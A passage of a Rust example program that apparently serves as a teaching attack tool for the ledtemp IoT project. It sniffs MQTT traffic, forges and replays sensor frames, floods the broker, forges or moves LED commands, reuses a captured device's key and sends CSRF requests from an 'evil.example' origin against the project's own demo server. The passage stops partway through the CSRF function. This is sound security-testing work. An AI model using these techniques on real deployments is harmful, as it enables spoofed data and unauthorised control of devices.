//! The attacks ledtemp is built to stop, runnable against a broker and a `ledtemp-web` server, for
//! teaching: run them against `ledtemp-web demo` (every attack refused and counted, the dashboard
//! unchanged), then against `ledtemp-web demo --insecure-plaintext` (the same attacks succeed).
//! `docs/attacks.md` walks through a run.
//!
//! ```text
//! cargo run --example attack -- --broker 127.0.0.1:1883 sniff --seconds 5
//! cargo run --example attack -- poison
//! cargo run --example attack -- replay --record frames.jsonl --seconds 10
//! cargo run --example attack -- replay --play frames.jsonl
//! cargo run --example attack -- flood --devices 2000
//! cargo run --example attack -- command-record --out commands.jsonl --count 2   # click a switch
//! cargo run --example attack -- command-replay --play commands.jsonl
//! cargo run --example attack -- command-forge
//! cargo run --example attack -- command-move --from commands.jsonl
//! cargo run --example attack -- command-foreign-key --key-file garage.key --device kitchen-pi
//! cargo run --example attack -- command-csrf --device kitchen-pi --led red
//! ```
//!
//! Each attack prints what it did, then the server's counters before and after (`GET /api/stats`)
//! and what changed on the dashboard (`GET /api/devices`), and ends with one `summary: {json}`
//! line for scripts (the tests in `tests/attack.rs` read it).

use std::collections::{BTreeMap, BTreeSet};
use std::hash::{BuildHasher, Hasher};
use std::io::{BufRead, Write};
use std::path::{Path, PathBuf};
use std::process::ExitCode;
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::Duration;

use clap::{Parser, Subcommand};
use ledtemp_core::{
    Algorithm, AnyCodec, Codec, DeviceId, FrameHeader, HEADER_LEN, InsecurePlaintextCodec, KeyId,
    LedCommand, LedName, LedState, MAX_FRAME_LEN, Message, MilliCelsius, NodeStatus, SensorName,
    SequenceNumber, TemperatureReading, Topic, Uptime,
};
use rumqttc::v5::mqttbytes::QoS;
use rumqttc::v5::mqttbytes::v5::Packet;
use rumqttc::v5::{AsyncClient, Event, MqttOptions};
use serde_json::{Value, json};
use tokio::sync::mpsc;

/// The temperature every forged reading carries, so that it is easy to spot on the dashboard.
const FORGED_MILLI_CELSIUS: i32 = 66_600;

/// Device id of the "frame for an unknown device".
const INTRUDER: &str = "intruder";

/// Prefix of the device ids `flood` invents.
const FLOOD_PREFIX: &str = "flood-";

/// Bytes of each oversized payload: more than a frame can be, less than the server's MQTT packet
/// limit (so that it reaches the pipeline and is counted).
const OVERSIZE_LEN: usize = 1_000;

/// Attacks on a ledtemp deployment: sniff, poison, replay, flood, and the LED command attacks.
#[derive(Debug, Parser)]
#[command(name = "attack")]
struct Cli {
    /// The MQTT broker, HOST:PORT.
    #[arg(
        long,
        env = "LEDTEMP_BROKER",
        default_value = "127.0.0.1:1883",
        value_name = "HOST:PORT"
    )]
    broker: String,
    /// The ledtemp-web server whose counters and dashboard are read.
    #[arg(long, default_value = "http://127.0.0.1:8080", value_name = "URL")]
    server: String,
    /// API token, sent as `Authorization: Bearer`, if the server asks for one.
    #[arg(long, env = "LEDTEMP_TOKEN", hide_env_values = true)]
    token: Option<String>,
    /// Seconds to wait after publishing before reading the counters again.
    #[arg(long, default_value_t = 1.5)]
    settle: f64,
    /// Command attacks: seconds to watch for the device's answer (its LED frame) after each
    /// command published.
    #[arg(long, default_value_t = 0.5)]
    watch: f64,
    #[command(subcommand)]
    attack: Attack,
}

#[derive(Debug, Subcommand)]
enum Attack {
    /// Subscribe to `#` and print what can be read of every message.
    Sniff {
        /// How long to listen.
        #[arg(long, default_value_t = 5)]
        seconds: u64,
    },
    /// Publish forged readings: a frame sealed with a guessed key, a plaintext frame, a genuine
    /// frame with one byte flipped, a genuine frame moved to another topic and to another device,
    /// and a frame of a device the server does not know.
    Poison {
        /// Forge frames of this device (default: whichever device publishes first).
        #[arg(long)]
        device: Option<String>,
        /// How long to wait for a genuine temperature frame to start from.
        #[arg(long, default_value_t = 15)]
        wait: u64,
    },
    /// Record genuine frames to a file, or publish a recording again.
    Replay {
        /// Record every ledtemp frame to FILE (JSON lines: topic and hex payload).
        #[arg(
            long,
            value_name = "FILE",
            conflicts_with = "play",
            required_unless_present = "play"
        )]
        record: Option<PathBuf>,
        /// With --record: how long to record.
        #[arg(long, default_value_t = 10)]
        seconds: u64,
        /// Publish every frame of FILE again, in order.
        #[arg(long, value_name = "FILE")]
        play: Option<PathBuf>,
    },
    /// Publish junk, oversized payloads and frames of many invented devices, then check that the
    /// server is healthy and still accepts the genuine nodes' frames.
    Flood {
        /// Junk payloads (random bytes, not frames).
        #[arg(long, default_value_t = 200)]
        junk: u32,
        /// Oversized payloads (1000 bytes).
        #[arg(long, default_value_t = 20)]
        oversize: u32,
        /// Invented device ids, one plaintext reading each.
        #[arg(long, default_value_t = 100)]
        devices: u32,
        /// Messages per second at most.
        #[arg(long, default_value_t = 2_000)]
        rate: u32,
        /// How long to wait for a genuine frame to be accepted after the flood.
        #[arg(long, default_value_t = 15)]
        wait: u64,
    },
    /// Record the LED commands the server sends (`ledtemp/+/cmd/+`) to a file: switch an LED on
    /// the dashboard meanwhile. The file feeds `command-replay` and `command-move`.
    CommandRecord {
        /// Where to write them (JSON lines: topic and hex payload, as `replay --record`).
        #[arg(long, value_name = "FILE")]
        out: PathBuf,
        /// How long to record at most.
        #[arg(long, default_value_t = 60)]
        seconds: u64,
        /// Stop after this many commands.
        #[arg(long)]
        count: Option<usize>,
    },
    /// Publish commands that no server sent: one sealed with a guessed key (for the device's
    /// current session, read from its status frame's clear header), one in plaintext.
    CommandForge {
        /// The device (default: the first one on the dashboard with an LED).
        #[arg(long)]
        device: Option<String>,
        /// Its LED (default: its first one on the dashboard).
        #[arg(long)]
        led: Option<String>,
    },
    /// Publish recorded genuine commands again, one at a time: within the device's session, or
    /// after it rebooted.
    CommandReplay {
        /// A file written by `command-record` (or `replay --record`: its commands are used).
        #[arg(long, value_name = "FILE")]
        play: PathBuf,
    },
    /// Publish a recorded genuine command on another LED of its device, and on the same LED of
    /// another device.
    CommandMove {
        /// A file written by `command-record`; its first command is moved.
        #[arg(long, value_name = "FILE")]
        from: PathBuf,
        /// The other LED (default: another LED the dashboard shows for the device, or `moved`).
        #[arg(long)]
        led: Option<String>,
        /// The other device (default: another device on the dashboard).
        #[arg(long)]
        device: Option<String>,
    },
    /// Publish a command sealed with another device's real key: what a captured device gives
    /// away. The key comes from a key file, or from a keyring (`--keyring`, `--captured`).
    CommandForeignKey {
        /// The captured device's key file (`ledtemp-keys add --key-file`).
        #[arg(long, value_name = "FILE", required_unless_present = "keyring")]
        key_file: Option<PathBuf>,
        /// A keyring holding the captured device's key (the demo's is in its data directory).
        #[arg(long, value_name = "FILE", requires = "captured", conflicts_with = "key_file")]
        keyring: Option<PathBuf>,
        /// With --keyring: the captured device.
        #[arg(long)]
        captured: Option<String>,
        /// The device attacked (default: the first one on the dashboard with an LED other than
        /// the captured one).
        #[arg(long)]
        device: Option<String>,
        /// Its LED (default: its first one on the dashboard).
        #[arg(long)]
        led: Option<String>,
    },
    /// The dashboard's switch, posted from another site (cross-site request forgery): with the
    /// victim's session cookie but another Origin, and without the session's CSRF token; then
    /// the same request from the dashboard's own origin with the token, which must work.
    CommandCsrf {
        /// The device.
        #[arg(long)]
        device: Option<String>,
        /// Its LED.
        #[arg(long)]
        led: Option<String>,
        /// The dashboard password, when login is on: the attack logs in first, as the victim's
        /// browser would have (its session cookie is what a forged request carries).
        #[arg(long, env = "LEDTEMP_PASSWORD", hide_env_values = true)]
        password: Option<String>,
    },
}

/// Any failure; the attack stops and the message is printed.
#[derive(Debug)]
struct AttackError(String);

impl<E: std::fmt::Display> From<E> for AttackError {
    fn from(error: E) -> Self {
        AttackError(error.to_string())
    }
}

type Result<T, E = AttackError> = std::result::Result<T, E>;

fn main() -> ExitCode {
    let cli = Cli::parse();
    let runtime = match tokio::runtime::Builder::new_multi_thread().enable_all().build() {
        Ok(runtime) => runtime,
        Err(error) => {
            eprintln!("attack: cannot start the runtime: {error}");
            return ExitCode::FAILURE;
        }
    };
    match runtime.block_on(run(cli)) {
        Ok(()) => ExitCode::SUCCESS,
        Err(AttackError(message)) => {
            eprintln!("attack: {message}");
            ExitCode::FAILURE
        }
    }
}

async fn run(cli: Cli) -> Result<()> {
    let mut api = Api::new(&cli.server, cli.token.clone())?;
    let broker = parse_broker(&cli.broker)?;
    let settle = Duration::from_secs_f64(cli.settle.max(0.0));
    let watch = Duration::from_secs_f64(cli.watch.max(0.0));
    if let Attack::CommandCsrf { password: Some(password), .. } = &cli.attack {
        api.login(password).await?;
    }
    let before = Observation::take(&api).await?;
    let command_attack = matches!(
        cli.attack,
        Attack::CommandRecord { .. }
            | Attack::CommandForge { .. }
            | Attack::CommandReplay { .. }
            | Attack::CommandMove { .. }
            | Attack::CommandForeignKey { .. }
            | Attack::CommandCsrf { .. }
    );
    let mut summary = match cli.attack {
        Attack::Sniff { seconds } => sniff(&broker, Duration::from_secs(seconds)).await?,
        Attack::Poison { device, wait } => {
            poison(&broker, &before, device.as_deref(), Duration::from_secs(wait)).await?
        }
        Attack::Replay { record: Some(file), seconds, .. } => {
            record(&broker, &file, Duration::from_secs(seconds)).await?
        }
        Attack::Replay { play: Some(file), .. } => play(&broker, &file).await?,
        Attack::Replay { .. } => return Err(AttackError("give --record or --play".into())),
        Attack::Flood { junk, oversize, devices, rate, wait } => {
            let flood = Flood { junk, oversize, devices, rate };
            flood.run(&broker, &api, &before, settle, Duration::from_secs(wait)).await?
        }
        Attack::CommandRecord { out, seconds, count } => {
            record_commands(&broker, &out, Duration::from_secs(seconds), count).await?
        }
        Attack::CommandForge { device, led } => {
            let target = CommandTarget::choose(&before, device.as_deref(), led.as_deref(), None)?;
            command_forge(&broker, &target, watch).await?
        }
        Attack::CommandReplay { play } => command_replay(&broker, &play, watch).await?,
        Attack::CommandMove { from, led, device } => {
            command_move(&broker, &before, &from, led.as_deref(), device.as_deref(), watch).await?
        }
        Attack::CommandForeignKey { key_file, keyring, captured, device, led } => {
            let key = match (key_file, keyring, captured) {
                (Some(file), _, _) => ledtemp_keys::load_key_file(&file)?,
                (None, Some(keyring), Some(captured)) => {
                    let captured = DeviceId::new(&captured)?;
                    ledtemp_keys::Keyring::load(&keyring)?.current(&captured).cloned().ok_or_else(
                        || AttackError(format!("no key of {captured} in {}", keyring.display())),
                    )?
                }
                _ => {
                    return Err(AttackError("give --key-file, or --keyring and --captured".into()));
                }
            };
            let captured = key.device.as_str().to_owned();
            let target =
                CommandTarget::choose(&before, device.as_deref(), led.as_deref(), Some(&captured))?;
            command_foreign_key(&broker, &target, &key, watch).await?
        }
        Attack::CommandCsrf { device, led, .. } => {
            let target = CommandTarget::choose(&before, device.as_deref(), led.as_deref(), None)?;
            command_csrf(&broker, &api, &target, watch).await?
        }
    };
    tokio::time::sleep(settle).await;
    let after = Observation::take(&api).await?;
    let report = before.compare(&after);
    report.print(before.insecure(), after.insecure());
    if command_attack {
        let changes = before.led_changes(&after);
        if changes.is_empty() {
            println!("LEDs (GET /api/devices): none changed");
        } else {
            println!("LEDs (GET /api/devices; a button press changes them too): CHANGED:");
            for change in &changes {
                println!("  {change}");
            }
        }
        if let Value::Object(fields) = &mut summary {
            fields.insert("led_changes".into(), json!(changes));
            fields.insert("leds_after".into(), after.leds_json());
        }
    }
    if let Value::Object(fields) = &mut summary {
        fields.insert("stats_delta".into(), report.delta.clone());
        fields.insert("dashboard_changes".into(), json!(report.changes));
        fields.insert("insecure_plaintext".into(), json!(after.insecure()));
    }
    println!("summary: {summary}");
    Ok(())
}

// ---- the attacks ----

async fn sniff(broker: &(String, u16), duration: Duration) -> Result<Value> {
    println!("sniff: subscribed to '#' on {}:{} for {} s", broker.0, broker.1, duration.as_secs());
    let mut mqtt = Mqtt::connect(broker, "sniff", Some("#")).await?;
    let (mut total, mut readable) = (0usize, 0usize);
    let mut read_values = Vec::new();
    let deadline = tokio::time::Instant::now() + duration;
    while let Ok(Some((topic, payload))) = tokio::time::timeout_at(deadline, mqtt.next()).await {
        total += 1;
        let reading = read_frame(&topic, &payload);
        if let Reading::Plaintext(text) = &reading {
            readable += 1;
            read_values.push(format!("{topic}: {text}"));
        }
        println!("  {topic:<40} {:>4} B  {reading}", payload.len());
    }
    println!("sniff: readable {readable} of {total} messages");
    Ok(json!({ "attack": "sniff", "total": total, "readable": readable, "read": read_values }))
}

async fn poison(
    broker: &(String, u16),
    before: &Observation,
    device: Option<&str>,
    wait: Duration,
) -> Result<Value> {
    let filter = format!("ledtemp/{}/temp/+", device.unwrap_or("+"));
    println!("poison: waiting up to {} s for a genuine frame on {filter}", wait.as_secs());
    let mut mqtt = Mqtt::connect(broker, "poison", Some(&filter)).await?;
    let (topic, genuine) =
        tokio::time::timeout(wait, mqtt.next()).await.ok().flatten().ok_or_else(|| {
            AttackError(format!("no frame on {filter} within {} s", wait.as_secs()))
        })?;
    let parsed = Topic::parse(&topic)?;
    let (victim, sensor) = match &parsed {
        Topic::Temperature { device, sensor } => (device.clone(), sensor.clone()),
        _ => return Err(AttackError(format!("{topic} is not a temperature topic"))),
    };
    let header =
        FrameHeader::parse(&genuine).or_else(|_| InsecurePlaintextCodec::parse_header(&genuine))?;
    let plaintext_target = InsecurePlaintextCodec::new(KeyId(0)).open(&parsed, &genuine).is_ok();
    println!(
        "poison: captured {} B on {topic} ({}); forging readings of {FORGED_C} °C",
        genuine.len(),
        if plaintext_target { "readable: the target takes plaintext" } else { "sealed" },
    );
    let forged = Message::Temperature(TemperatureReading {
        sensor: sensor.clone(),
        temperature: MilliCelsius(FORGED_MILLI_CELSIUS),
        uptime: Uptime(0),
    });
    // Ahead of the genuine numbers, as a forger would pick them to push the window forward.
    let sequence = SequenceNumber::new(header.sequence.get().saturating_add(1_000))?;
    let guessed = AnyCodec::new(Algorithm::Aes128Gcm, header.key_id, &random_bytes::<16>())?;
    let plain = InsecurePlaintextCodec::new(header.key_id);
    let mut flipped = genuine.clone();
    // The third byte of the temperature: a change of 65.536 °C if anybody reads it.
    if let Some(byte) = flipped.get_mut(HEADER_LEN + 2) {
        *byte ^= 0x01;
    }
    let neighbour = before
        .device_ids()
        .into_iter()
        .find(|id| id != victim.as_str() && id != INTRUDER)
        .unwrap_or_else(|| "neighbour".to_owned());
    let intruder = DeviceId::new(INTRUDER)?;
    let intruder_frame = if plaintext_target {
        seal(&plain, &intruder, sequence, &forged)?
    } else {
        seal(&guessed, &intruder, sequence, &forged)?
    };
    let forgeries = [
        ("sealed with a guessed key", topic.clone(), seal(&guessed, &victim, sequence, &forged)?),
        ("plaintext frame", topic.clone(), seal(&plain, &victim, sequence, &forged)?),
        ("genuine frame, one byte flipped", topic.clone(), flipped),
        (
            "genuine frame moved to another topic",
            format!("ledtemp/{victim}/temp/moved"),
            genuine.clone(),
        ),
        (
            "genuine frame moved to another device",
            format!("ledtemp/{neighbour}/temp/{sensor}"),
            genuine.clone(),
        ),
        (
            "frame of an unknown device",
            forged.topic(&intruder).to_topic_string().as_str().to_owned(),
            intruder_frame,
        ),
    ];
    for (what, topic, payload) in &forgeries {
        mqtt.publish(topic, payload.clone()).await?;
        println!("  published {what:<38} {:>4} B on {topic}", payload.len());
    }
    mqtt.flush().await?;
    Ok(json!({ "attack": "poison", "sent": forgeries.len(), "victim": victim.as_str() }))
}

/// One recorded message.
#[derive(Debug, serde::Serialize, serde::Deserialize)]
struct Recorded {
    topic: String,
    /// The payload, hex.
    payload: String,
}

async fn record(broker: &(String, u16), file: &Path, duration: Duration) -> Result<Value> {
    println!("replay: recording ledtemp/# for {} s to {}", duration.as_secs(), file.display());
    let mut mqtt = Mqtt::connect(broker, "record", Some("ledtemp/#")).await?;
    let mut out = std::io::BufWriter::new(std::fs::File::create(file)?);
    let mut count = 0usize;
    let deadline = tokio::time::Instant::now() + duration;
    while let Ok(Some((topic, payload))) = tokio::time::timeout_at(deadline, mqtt.next()).await {
        let line = serde_json::to_string(&Recorded { topic, payload: hex::encode(payload) })?;
        writeln!(out, "{line}")?;
        count += 1;
    }
    out.flush()?;
    println!("replay: recorded {count} frames (play them with --play {})", file.display());
    Ok(json!({ "attack": "record", "recorded": count }))
}

/// The messages of a file `record` or `record_commands` wrote, in order.
fn read_recording(file: &Path) -> Result<Vec<(String, Vec<u8>)>> {
    let reader = std::io::BufReader::new(
        std::fs::File::open(file).map_err(|e| AttackError(format!("{}: {e}", file.display())))?,
    );
    let mut frames = Vec::new();
    for line in reader.lines() {
        let line = line?;
        if line.trim().is_empty() {
            continue;
        }
        let recorded: Recorded = serde_json::from_str(&line)?;
        frames.push((recorded.topic, hex::decode(recorded.payload)?));
    }
    Ok(frames)
}

async fn play(broker: &(String, u16), file: &Path) -> Result<Value> {
    let frames = read_recording(file)?;
    println!("replay: publishing {} recorded frames from {} again", frames.len(), file.display());
    let mut mqtt = Mqtt::connect(broker, "replay", None).await?;
    for (topic, payload) in &frames {
        mqtt.publish(topic, payload.clone()).await?;
    }
    mqtt.flush().await?;
    Ok(json!({ "attack": "replay", "sent": frames.len() }))
}

// ---- the command attacks ----

/// The commands a recording holds, in order: `(topic, frame)` on `ledtemp/<device>/cmd/<led>`.
fn recorded_commands(file: &Path) -> Result<Vec<(String, Vec<u8>)>> {
    let commands: Vec<_> = read_recording(file)?
        .into_iter()
        .filter(|(topic, _)| matches!(Topic::parse(topic), Ok(Topic::Command { .. })))
        .collect();
    if commands.is_empty() {
        return Err(AttackError(format!(
            "{} holds no command: record while somebody switches an LED (command-record)",
            file.display()
        )));
    }
    Ok(commands)
}

async fn record_commands(
    broker: &(String, u16),
    file: &Path,
    duration: Duration,
    count: Option<usize>,
) -> Result<Value> {
    let filter = "ledtemp/+/cmd/+";
    let mut mqtt = Mqtt::connect_live(broker, "record-commands", filter).await?;
    let mut out = std::io::BufWriter::new(std::fs::File::create(file)?);
    // The tests wait for this line before they switch an LED.
    println!(
        "command-record: listening on {filter} for {} s: switch an LED on the dashboard now",
        duration.as_secs()
    );
    std::io::stdout().flush()?;
    let mut recorded = 0usize;
    let deadline = tokio::time::Instant::now() + duration;
    while count.is_none_or(|count| recorded < count) {
        let Ok(Some((topic, payload))) = tokio::time::timeout_at(deadline, mqtt.next()).await
        else {
            break;
        };
        println!("  {topic:<40} {:>4} B  {}", payload.len(), read_frame(&topic, &payload));
        let line = serde_json::to_string(&Recorded { topic, payload: hex::encode(payload) })?;
        writeln!(out, "{line}")?;
        out.flush()?;
        recorded += 1;
    }
    println!("command-record: recorded {recorded} commands to {}", file.display());
    Ok(json!({ "attack": "command-record", "recorded": recorded }))
}

/// The device and LED a command attack aims at, and what the dashboard shows of it.
struct CommandTarget {
    device: DeviceId,
    led: LedName,
    /// The LED's state on the dashboard before the attack; a forged command asks for the other.
    on: bool,
}

impl CommandTarget {
    /// `device` and `led`, or the first device on the dashboard with an LED (not `except`) and
    /// its first LED.
    fn choose(
        before: &Observation,
        device: Option<&str>,
        led: Option<&str>,
        except: Option<&str>,
    ) -> Result<CommandTarget> {
        let leds = before.led_states();
        let chosen = leds.iter().find(|((d, l), _)| {
            device.is_none_or(|device| d == device)
                && led.is_none_or(|led| l == led)
                && except.is_none_or(|except| d != except)
        });
        let ((d, l), on) = match (chosen, device, led) {
            (Some(found), _, _) => (found.0.clone(), *found.1),
            // Not on the dashboard (yet): aim anyway, as an attacker can.
            (None, Some(device), Some(led)) => ((device.to_owned(), led.to_owned()), false),
            (None, _, _) => {
                return Err(AttackError(
                    "no device with an LED on the dashboard: give --device and --led".into(),
                ));
            }
        };
        Ok(CommandTarget { device: DeviceId::new(&d)?, led: LedName::new(&l)?, on })
    }

    fn topic(&self) -> String {
        format!("ledtemp/{}/cmd/{}", self.device, self.led)
    }

    /// The command an attacker wants obeyed: the other state, for `session`.
    fn command(&self, session: SequenceNumber) -> Message {
        Message::Command(LedCommand {
            led: self.led.clone(),
            state: LedState::from(!self.on),
            session,
            // The node's uptime is sealed; a far expiry is the attacker's best guess.
            expires: Uptime(u32::MAX / 2),
        })
    }
}

/// What the device's status frame (retained by the broker) shows in its clear header.
struct StatusHeader {
    /// The device's session: the status frame's sequence number (0 if none was seen).
    session: SequenceNumber,
    /// Its key id (1 if none was seen).
    key_id: KeyId,
    /// Whether the device speaks plaintext (the insecure target).
    plaintext: bool,
}

async fn sniff_status(broker: &(String, u16), device: &DeviceId) -> Result<StatusHeader> {
    let filter = format!("ledtemp/{device}/status");
    let mut mqtt = Mqtt::connect(broker, "status", Some(&filter)).await?;
    let status = tokio::time::timeout(Duration::from_secs(2), mqtt.next()).await.ok().flatten();
    let Some((topic, frame)) = status else {
        println!("  {filter}: no status frame seen; guessing session 0, key id 1");
        return Ok(StatusHeader {
            session: SequenceNumber::new(0)?,
            key_id: KeyId(1),
            plaintext: false,
        });
    };
    let plaintext = Topic::parse(&topic)
        .is_ok_and(|topic| InsecurePlaintextCodec::new(KeyId(0)).open(&topic, &frame).is_ok());
    let header =
        FrameHeader::parse(&frame).or_else(|_| InsecurePlaintextCodec::parse_header(&frame))?;
    println!(
        "  {filter}: session {} (the status frame's sequence number), key id {}{}",
        header.sequence.get(),
        header.key_id.0,
        if plaintext { ", PLAINTEXT" } else { ", sealed" }
    );
    Ok(StatusHeader { session: header.sequence, key_id: header.key_id, plaintext })
}

/// Publishes commands and watches every device's LED topics: a node that applied a command
/// answers with its LED frame at once (an LED frame may also come from a button press).
struct CommandSender {
    mqtt: Mqtt,
    watch: Duration,
    sent: usize,
    answered: usize,
}

impl CommandSender {
    async fn connect(broker: &(String, u16), watch: Duration) -> Result<CommandSender> {
        let mqtt = Mqtt::connect_live(broker, "command", "ledtemp/+/led/+").await?;
        Ok(CommandSender { mqtt, watch, sent: 0, answered: 0 })
    }

    /// Publishes `frame` on `topic`, then watches for an LED frame of the device the topic
    /// names; prints what happened. Returns whether the device answered.
    async fn send(&mut self, what: &str, topic: &str, frame: Vec<u8>) -> Result<bool> {
        while self.mqtt.received.try_recv().is_ok() {}
        let device = match Topic::parse(topic) {
            Ok(parsed) => parsed.device().as_str().to_owned(),
            Err(_) => String::new(),
        };
        let len = frame.len();
        self.mqtt.publish(topic, frame).await?;
        self.mqtt.flush().await?;
        self.sent += 1;
        let prefix = format!("ledtemp/{device}/led/");
        let deadline = tokio::time::Instant::now() + self.watch;
        let mut answer = None;
        while let Ok(Some((led_topic, frame))) =
            tokio::time::timeout_at(deadline, self.mqtt.next()).await
        {
            if led_topic.starts_with(&prefix) {
                answer = Some((led_topic, frame));
                break;
            }
        }
        let outcome = match &answer {
            // Readable: the device says what it did.
            Some((led_topic, frame)) => match read_frame(led_topic, frame) {
                Reading::Plaintext(text) => format!("OBEYED: the device reports {text}"),
                _ => format!(
                    "OBEYED? the device sent a sealed LED frame within {:.1} s \
                     (its answer to a command, or a button press)",
                    self.watch.as_secs_f64()
                ),
            },
            None => format!("no answer from {device} (ignored or refused)"),
        };
        println!("  published {what:<44} {len:>4} B on {topic}: {outcome}");
        if answer.is_some() {
            self.answered += 1;
        }
        Ok(answer.is_some())
    }

    fn summary(&self, attack: &str) -> Value {
        json!({ "attack": attack, "sent": self.sent, "answered": self.answered })
    }
}

async fn command_forge(
    broker: &(String, u16),
    target: &CommandTarget,
    watch: Duration,
) -> Result<Value> {
    let state = if target.on { "OFF" } else { "ON" };
    println!(
        "command-forge: switching {}/{} {state} without the server",
        target.device, target.led
    );
    let status = sniff_status(broker, &target.device).await?;
    let (command, key_id) = (target.command(status.session), status.key_id);
    // Far ahead of any number the server used, as a forger would pick it.
    let sequence = SequenceNumber::new(1_000_000 + u64::from(random_bytes::<2>()[0]))?;
    let guessed = AnyCodec::new(Algorithm::Aes128Gcm, key_id, &random_bytes::<16>())?;
    let plain = InsecurePlaintextCodec::new(key_id);
    let mut sender = CommandSender::connect(broker, watch).await?;
    let topic = target.topic();
    sender
        .send(
            "command sealed with a guessed key",
            &topic,
            seal(&guessed, &target.device, sequence, &command)?,
        )
        .await?;
    sender
        .send("plaintext command", &topic, seal(&plain, &target.device, sequence, &command)?)
        .await?;
    Ok(sender.summary("command-forge"))
}

async fn command_replay(broker: &(String, u16), file: &Path, watch: Duration) -> Result<Value> {
    let commands = recorded_commands(file)?;
    println!(
        "command-replay: publishing {} recorded commands again, one at a time",
        commands.len()
    );
    let mut sender = CommandSender::connect(broker, watch).await?;
    for (topic, frame) in commands {
        let what = match read_frame(&topic, &frame) {
            Reading::Plaintext(text) => format!("recorded {text}"),
            Reading::Sealed { sequence, .. } => format!("recorded command (sequence {sequence})"),
            Reading::Unreadable(why) => format!("recorded message ({why})"),
        };
        sender.send(&what, &topic, frame).await?;
    }
    Ok(sender.summary("command-replay"))
}

async fn command_move(
    broker: &(String, u16),
    before: &Observation,
    file: &Path,
    other_led: Option<&str>,
    other_device: Option<&str>,
    watch: Duration,
) -> Result<Value> {
    let commands = recorded_commands(file)?;
    let Some((topic, frame)) = commands.into_iter().next() else {
        return Err(AttackError(format!("{} holds no command", file.display())));
    };
    let Ok(Topic::Command { device, led }) = Topic::parse(&topic) else {
        return Err(AttackError(format!("{topic} is not a command topic")));
    };
    let leds = before.led_states();
    let other_led = match other_led {
        Some(led) => led.to_owned(),
        None => leds
            .keys()
            .find(|(d, l)| d == device.as_str() && l != led.as_str())
            .map_or_else(|| "moved".to_owned(), |(_, l)| l.clone()),
    };
    let other_device = match other_device {
        Some(device) => device.to_owned(),
        None => leds
            .keys()
            .map(|(d, _)| d.clone())
            .chain(before.device_ids())
            .find(|d| d != device.as_str())
            .unwrap_or_else(|| "neighbour".to_owned()),
    };
    println!("command-move: the recorded command on {topic}, published elsewhere");
    let mut sender = CommandSender::connect(broker, watch).await?;
    sender
        .send(
            &format!("genuine command moved to LED {other_led}"),
            &format!("ledtemp/{device}/cmd/{other_led}"),
            frame.clone(),
        )
        .await?;
    sender
        .send(
            &format!("genuine command moved to device {other_device}"),
            &format!("ledtemp/{other_device}/cmd/{led}"),
            frame,
        )
        .await?;
    Ok(sender.summary("command-move"))
}

async fn command_foreign_key(
    broker: &(String, u16),
    target: &CommandTarget,
    key: &ledtemp_keys::KeyEntry,
    watch: Duration,
) -> Result<Value> {
    let state = if target.on { "OFF" } else { "ON" };
    println!(
        "command-foreign-key: switching {}/{} {state} with the real key of {} (key id {})",
        target.device, target.led, key.device, key.key_id.0
    );
    let status = sniff_status(broker, &target.device).await?;
    let command = target.command(status.session);
    let sequence = SequenceNumber::new(1_000_000 + u64::from(random_bytes::<2>()[0]))?;
    let mut sender = CommandSender::connect(broker, watch).await?;
    let (what, frame) = if status.plaintext {
        // The original project's node takes a command from anybody: the captured device's
        // identity is all it takes, its key is not even needed.
        let plain = InsecurePlaintextCodec::new(key.key_id);
        (
            format!("plaintext command from {} (no key needed)", key.device),
            seal(&plain, &target.device, sequence, &command)?,
        )
    } else {
        (
            format!("command sealed with {}'s key", key.device),
            seal(&key.codec(), &target.device, sequence, &command)?,
        )
    };
    sender.send(&what, &target.topic(), frame).await?;
    Ok(sender.summary("command-foreign-key"))
}

/// One POST of the dashboard's switch, as some page would send it.
struct SwitchPost {
    what: &'static str,
    origin: String,
    fetch_site: &'static str,
    with_cookie: bool,
    with_token: bool,
}

async fn command_csrf(
    broker: &(String, u16),
    api: &Api,
    target: &CommandTarget,
    watch: Duration,
) -> Result<Value> {
    let state = if target.on { "OFF" } else { "ON" };
    let path = format!("/api/devices/{}/leds/{}", target.device, target.led);
    let session = api.session.as_ref();
    println!(
        "command-csrf: POST {path} {{\"on\": {}}} ({})",
        !target.on,
        if session.is_some() {
            "logged in: the victim's browser holds a session cookie"
        } else {
            "no login on this server"
        }
    );
    let evil = "http://evil.example".to_owned();
    let own = api.base.clone();
    let mut posts = vec![SwitchPost {
        what: "from another site (Origin http://evil.example)",
        origin: evil,
        fetch_site: "cross-site",
        with_cookie: true,
        with_token: false,
    }];
    if session.is_some() {
        posts.push(SwitchPost {
            what: "with the session cookie, without X-CSRF-Token",
            origin: own.clone(),
            fetch_site: "same-origin",
            with_cookie: true,
            with_token: false,
        });
    } else {
        posts.push(SwitchPost {
            what: "from a sandboxed page (Origin null)",
            origin: "null".to_owned(),
            fetch_site: "cross-site",
            with_cookie: true,
            with_token: false,
        });
    }
    posts.push(SwitchPost {
        what: if session.is_some() {
            "CONTROL: from the dashboard's origin, with its token"
        } else {
            "CONTROL: from the dashboard's origin"
        },
        origin: own,
        fetch_site: "same-origin",
        with_cookie: true,
        with_token: true,
    });
    let filter = format!("ledtemp/{}/cmd/+", target.device);
    let mut sniffer = Mqtt::connect_live(broker, "csrf-sniff", &filter).await?;
    let mut attempts = Vec::new();
    let mut refused = 0usize;
    for post in &posts {
        let logged_before = api.command_log_len(&target.device).await?;
        let mut request = api
            .client
            .post(format!("{}{path}", api.base))
            .header("origin", &post.origin)
            .header("sec-fetch-site", post.fetch_site)
            .json(&json!({ "on": !target.on }));
        if let Some(session) = session {
            if post.with_cookie {
                request = request.header("cookie", &session.cookie);
            }
            if post.with_token {
                request = request.header("x-csrf-token", &session.csrf);
            }
        }
        let response = request.send().await?;
        let status = response.status();
        let body = response.text().await.unwrap_or_default();
        // The answer came after the server published (a refusal before anything could be):
        // what it published is on its way to this subscriber already.
        let mut published = 0usize;
        let deadline = tokio::time::Instant::now() + watch.min(Duration::from_millis(500));
        while let Ok(Some(_)) = tokio::time::timeout_at(deadline, sniffer.next()).await {
            published += 1;
        }
        let logged = api.command_log_len(&target.device).await?.saturating_sub(logged_before);
        if status == reqwest::StatusCode::FORBIDDEN {
            refused += 1;
        }
        let outcome = serde_json::from_str::<Value>(&body)
            .ok()
            .and_then(|b| b["outcome"].as_str().or(b["error"].as_str()).map(str::to_owned))
            .unwrap_or_default();
        println!(
            "  POST {:<52} -> {} {outcome}; commands published: {published}; logged: {logged}",
            post.what,
            status.as_u16(),
        );
        attempts.push(json!({
            "what": post.what,
            "status": status.as_u16(),
            "outcome": outcome,
            "published": published,
            "logged": logged,
        }));
